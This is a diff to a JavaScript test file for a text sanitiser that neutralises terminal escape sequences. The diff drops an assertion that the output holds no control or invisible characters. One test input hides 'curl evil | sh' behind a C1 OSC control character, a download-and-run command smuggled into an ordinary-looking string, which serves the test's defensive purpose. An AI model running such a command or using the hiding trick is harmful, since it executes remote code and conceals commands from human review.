@@ -29,9 +29,7 @@ describe('sanitizeText', () => {
     ['a DCS string', `${ESC}P1$r0m${ESC}\\`, '\\x1bP1$r0m\\x1b\\'],
     ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
   ])('neutralises %s', (_name, input, expected) => {
-    const output = sanitizeText(input);
-    expect(output).toBe(expected);
-    expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/);
+    expect(sanitizeText(input)).toBe(expected);
   });
 
   it.each([
